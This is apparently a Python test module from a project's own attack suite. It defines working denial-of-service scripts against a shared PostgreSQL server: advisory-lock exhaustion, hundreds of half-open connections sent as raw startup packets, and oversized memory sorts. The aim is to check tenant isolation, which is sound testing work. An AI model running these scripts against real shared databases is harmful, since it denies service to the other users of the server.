"""Sessions that use up what all environments share of PostgreSQL."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from programs.kit.database import postgres, session_usage, suspensions
from programs.kit.database.session_usage import SessionBounds
from tests.attack.arena import MEMORY_BYTES, Arena
from tests.attack.attack import Family, NotTried
from tests.attack.neighbours import suffering

FAMILY = Family("shared PostgreSQL")
SUCCESS = "the victim's preview or Eph's administrator is refused for seconds"
SECONDS = 10
PREPARE = f"""
import os, socket, struct, threading, time
import psycopg
from urllib.parse import urlsplit
url = os.environ["DATABASE_URL"]
own = urlsplit(url)
end = time.monotonic() + {SECONDS}
"""
LOCKS = """
filled = 0
while time.monotonic() < end:
    try:
        with psycopg.connect(url, connect_timeout=5, autocommit=True) as session:
            try:
                session.execute("SELECT count(pg_advisory_lock(i)) FROM generate_series(1, 200000) i")
            except psycopg.errors.OutOfMemory:
                filled += 1
            while time.monotonic() < end:
                session.execute("SELECT 1")
                time.sleep(0.1)
    except psycopg.Error:
        time.sleep(0.05)
print("RAN", filled)
"""
HALF_OPEN = """
words = "".join(word + "\\0" for word in ("user", own.username, "database", own.path[1:], "")).encode()
packet = struct.pack("!ii", len(words) + 8, 196608) + words
held, asked = [], 0
while time.monotonic() < end:
    for made in list(held):
        try:
            data = made.recv(1000)
            asked += data[:1] == b"R"
            if not data:
                held.remove(made)
        except BlockingIOError:
            pass
        except OSError:
            held.remove(made)
    while len(held) < 400 and time.monotonic() < end:
        try:
            made = socket.create_connection((own.hostname, own.port), 1)
            made.sendall(packet)
            made.setblocking(False)
            held.append(made)
        except OSError:
            break
    time.sleep(0.2)
print("RAN", asked)
"""
SORTS = """
ran = []
def sort(memory):
    while time.monotonic() < end:
        try:
            with psycopg.connect(url, connect_timeout=5, autocommit=True) as session:
                session.execute("SELECT set_config('work_mem', %s, false)", [memory])
                ran.append(memory)
                session.execute(
                    "SELECT count(*) FROM (SELECT repeat(md5(i::text), 20) FROM generate_series(1, 3000000) i"
                    " ORDER BY 1) x"
                )
        except psycopg.Error:
            time.sleep(0.05)
threads = [threading.Thread(target=sort, args=[memory]) for memory in ["2GB", "64kB"] * 6]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("RAN", len(ran))
"""


@contextmanager
def suspendable(arena: Arena) -> Iterator[None]:
    """The attacker's database may be suspended afterwards, and other attacks need it."""
    try:
        yield
    finally:
        suspensions.lift(arena.site.target_settings, arena.hostile.name)


def require_ran(output: str, least: int = 1) -> None:
    ran = next((int(line.split()[1]) for line in output.splitlines() if line.startswith("RAN")), 0)
    if ran < least:
        raise NotTried(f"it never began: {output[-300:]}")


@FAMILY.attack("S3 L7", "take every lock of the server", SUCCESS)
def locks(arena: Arena) -> str:
    with suspendable(arena):
        output, evidence = suffering(arena, PREPARE + LOCKS)
        require_ran(output)
        return evidence


@FAMILY.attack("S3 L7", "hold hundreds of sessions that never authenticate", SUCCESS)
def half_open_sessions(arena: Arena) -> str:
    """With valid startup packets: each takes a process of the server before anyone knows whose it is."""
    output, evidence = suffering(arena, PREPARE + HALF_OPEN)
    require_ran(output, 20)
    return evidence


@FAMILY.attack("S3", "sort in more memory and temporary files than the limit", SUCCESS, is_slow=True)
def sorts(arena: Arena) -> str:
    bounds = SessionBounds(memory=MEMORY_BYTES)

    def excess() -> str:
        settings = arena.site.target_settings
        with postgres.connect(settings) as session:
            usage = session_usage.measure(session, postgres.data_folder(settings))
        found = [resource for _, resource in session_usage.find_excesses(usage, bounds)]
        return f"too much of {found}" if found else ""

    with suspendable(arena):
        output, evidence = suffering(arena, PREPARE + SORTS, excess)
        require_ran(output)
        return evidence
